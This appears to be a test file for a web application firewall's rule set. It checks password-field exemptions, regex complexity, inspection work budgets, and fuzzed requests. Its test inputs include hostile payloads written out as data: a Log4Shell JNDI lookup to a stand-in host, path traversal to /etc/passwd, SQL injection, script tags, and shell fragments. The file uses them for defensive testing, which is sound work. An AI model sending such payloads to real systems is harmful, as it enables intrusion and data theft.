import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { compileSentinel, runInlineTests } from "../../src/sentinel/compile/index.ts";
import { createSentinel, NO_OVERRIDES, type Verdict } from "../../src/sentinel/index.ts";
import {
  bodyRequest,
  formRequest,
  randomizer,
  shipped,
  shuffledTokens,
} from "../support/node/sentinel-rules.ts";

const { pkg } = shipped();
const sentinel = createSentinel(pkg);

/** A form of one field, posted to a path. */
function posted(target: string, name: string, value: string): ReturnType<typeof formRequest> {
  const body = `${name}=${encodeURIComponent(value)}`;
  return { ...bodyRequest("application/x-www-form-urlencoded", body), target };
}

async function inspect(request: ReturnType<typeof formRequest>): Promise<Verdict> {
  return sentinel.inspectRequest(request, NO_OVERRIDES, 0);
}

describe("the rules as shipped", () => {
  test("behave as the examples beside them say", async () => {
    const { tests } = compileSentinel("rules");
    const { run, faults } = await runInlineTests(pkg, tests);
    expect(faults).toEqual([]);
    expect(run).toBe(tests.length);
    expect(run).toBeGreaterThan(300);
  });

  test("run nothing natively that is not linear", () => {
    const { report } = compileSentinel("rules");
    for (const { expression, proof, rule } of report.expressions) {
      if (expression.engine !== "native") continue;
      expect(["bounded", "linear"], rule).toContain(proof.complexity);
    }
    expect(report.expressions.length).toBeGreaterThan(50);
  });
});

describe("passwords", () => {
  const password = "p@$$w0rd;ls' or 1=1--<script>/../../etc/passwd";

  test("may hold anything where the shop hashes them", async () => {
    for (const [path, name] of [
      ["/login", "password"],
      ["/account/register", "passwd"],
      ["/account/password", "new_password"],
      ["/api/auth/login", "password_confirmation"],
      ["/account/register", "customer[password]"],
      ["/graphql", "variables.input.password"],
    ] as const) {
      expect((await inspect(posted(path, name, password))).outcome, `${path} ${name}`).toBe("pass");
    }
  });

  test("are looked at like all else elsewhere, under other names, in addresses, and for lookups", async () => {
    for (const [path, name, value] of [
      ["/search", "password", password],
      ["/login", "password_file", password],
      ["/login", "my.passwords", password],
      ["/login?password=../../../etc/passwd", "a", "1"],
      ["/login", "password", "${jndi:ldap://evil.example/a}"],
    ] as const) {
      expect((await inspect(posted(path, name, value))).outcome, `${path} ${name}`).toBe("block");
    }
  });
});

const PIECES = [
  " ",
  "(",
  "'",
  "/",
  "a",
  "1",
  "../",
  "<",
  "<script ",
  "<svg on",
  "%",
  "%25",
  "%u0041",
  "&#60;",
  "&#000000000",
  "\\u0041",
  "${",
  "${jndi:",
  "${lower:j}",
  "select ",
  "union select ",
  "1 or 1=1 ",
  "/*",
  "/**/",
  ";cat ",
  "+ADw-",
  "\xc0\xae",
  "\0",
  "/etc?",
  "{{",
  '{"a":',
  "[",
  "a=b&",
  ",;",
  "$IFS",
  "$aaaa",
  "&lt",
  "4 ",
  "0x41",
  "QUJDREVGR0hJSktM ",
  "--",
  "#\n",
  "||",
  "=",
  "x=y ",
];

describe("no text costs more work than its budget", () => {
  const texts: readonly (readonly [string, (length: number) => string])[] = [
    ...PIECES.map(
      (piece) =>
        [
          JSON.stringify(piece),
          (length: number) => piece.repeat(Math.ceil(length / piece.length)).slice(0, length),
        ] as const,
    ),
    ["shuffled tokens", (length) => shuffledTokens(length, randomizer(3), "")],
    ["shuffled tokens, spaced", (length) => shuffledTokens(length, randomizer(5), " ")],
  ];

  test.each(texts)(
    "%s",
    async (_name, make) => {
      for (const length of [1_024, 16_384, 131_072]) {
        const requests = [
          formRequest(make(length)),
          bodyRequest("text/plain", make(length)),
          bodyRequest("application/json", JSON.stringify({ a: make(length) })),
          bodyRequest("text/xml", `<a>${make(length)}</a>`),
        ];
        for (const request of requests) {
          const { work, budget, outcome } = await inspect(request);
          // The budget, 140 a byte beside it, and the one step that goes over it: a scan and a run over the longest text.
          expect(work).toBeLessThan(
            pkg.settings.limits.work + 140 * (request.body.length + 100) + 60 * request.body.length,
          );
          if (budget !== null) expect(outcome).toBe("block");
        }
      }
    },
    60_000,
  );

  test("all were tried", () => expect(texts).toHaveLength(47));
});

test("whatever a request is made of, there is a verdict", async () => {
  const text = fc.string({
    unit: fc.oneof(
      fc.constantFrom(...PIECES),
      fc.integer({ min: 0, max: 255 }).map((code) => String.fromCharCode(code)),
    ),
    maxLength: 30,
  });
  const types = fc.constantFrom(
    "application/json",
    "text/xml",
    "multipart/form-data; boundary=b",
    "application/x-www-form-urlencoded",
    "application/graphql",
    "image/png",
    "text/plain; charset=utf-16",
    "",
  );
  const headers = fc.array(
    fc.tuple(
      fc.constantFrom(
        "cookie",
        "x-a",
        "referer",
        "content-type",
        "content-encoding",
        "authorization",
        "\u0000",
      ),
      fc.oneof(text, types),
    ),
    { maxLength: 5 },
  );
  const request = fc.record({
    method: fc.oneof(fc.constantFrom("GET", "POST"), text),
    target: text,
    protocol: text,
    headers,
    body: fc.uint8Array({ maxLength: 300 }),
    bodyComplete: fc.boolean(),
    clientIp: text,
  });
  await fc.assert(
    fc.asyncProperty(request, types, text, async (made, type, body) => {
      for (const asked of [made, { ...bodyRequest(type, body), target: made.target }]) {
        const { outcome, score } = await sentinel.inspectRequest(asked, NO_OVERRIDES, 0);
        expect(["pass", "block"]).toContain(outcome);
        expect(score).toBeGreaterThanOrEqual(0);
      }
    }),
    { numRuns: 1_500 },
  );
}, 60_000);

test("an innocent body of the inspected length stays within every budget", async () => {
  const words = "the quick brown fox jumps over a lazy dog and buys 2 pairs of shoes; isn't that nice? ";
  const text = words.repeat(Math.ceil(120_000 / words.length)).slice(0, 120_000);
  const fields = Array.from(
    { length: 1500 },
    (_none, at) => `field${at}=${encodeURIComponent(text.slice(at * 60, at * 60 + 60))}`,
  ).join("&");
  const rows = Array.from({ length: 1500 }, (_none, at) => ({
    [`name${at % 20}`]: text.slice(at * 60, at * 60 + 50),
  }));
  for (const request of [
    bodyRequest("text/plain", text),
    bodyRequest("application/json", JSON.stringify(rows)),
    bodyRequest("application/x-www-form-urlencoded", fields),
  ]) {
    expect(await inspect(request)).toMatchObject({ budget: null });
  }
});
